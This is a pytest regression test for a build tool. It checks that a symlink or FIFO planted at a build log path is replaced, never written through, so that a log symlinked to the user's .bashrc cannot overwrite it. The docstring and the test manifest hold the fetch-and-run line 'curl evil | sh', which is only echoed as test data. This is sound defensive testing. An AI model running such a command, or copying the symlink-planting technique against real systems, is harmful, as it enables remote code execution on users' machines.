"""An artifact's log lives under .build/, which is not trusted: whatever was planted at
its path (a symlink, a FIFO) is replaced, never written through or waited on.

Before: ``.build/logs/v1/tool.log -> ~/.bashrc`` made the build truncate the user's
``.bashrc`` and write the build's output into it (a repository's build printing
``curl evil | sh`` put that line there); a FIFO there hung the build before it started.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.helpers.cli import run_cli
from tests.reliability.isolation_helpers import Workspace, make_repo


def workspace(tmp_path: Path) -> Workspace:
    ws = Workspace(tmp_path / "ws")
    ws.root.mkdir()
    commit = make_repo(tmp_path / "repo", {"README": "tool\n"})
    ws.manifest(tmp_path / "repo", commit, """
tool:
  type: binary
  command: echo 'curl evil | sh' && echo tool > out
  outputs: [out]
""")
    (ws.root / ".build" / "logs" / "v1").mkdir(parents=True)
    return ws


@pytest.mark.parametrize("planted", ["symlink", "fifo"])
def test_what_is_planted_at_a_log_path_is_replaced_never_written_through(planted: str, tmp_path: Path) -> None:
    ws = workspace(tmp_path)
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("precious\n")
    log = ws.root / ".build" / "logs" / "v1" / "tool.log"
    if planted == "symlink":
        log.symlink_to(bashrc)
    else:
        os.mkfifo(log)

    # A bounded wait: before the fix, the FIFO made the build wait for a reader forever.
    result = run_cli("build", "tool", "--manifest", str(ws.root / "manifest.yaml"), "--workspace", str(ws.root),
                     program="orchestrator", cwd=ws.root, env={"XDG_CACHE_HOME": str(ws.root / "cache")}, timeout=60)
    code, output = result.returncode, result.stdout + result.stderr

    assert code == 0, output
    assert bashrc.read_text() == "precious\n"
    assert not log.is_symlink() and log.is_file()
    assert "curl evil | sh" in log.read_text()
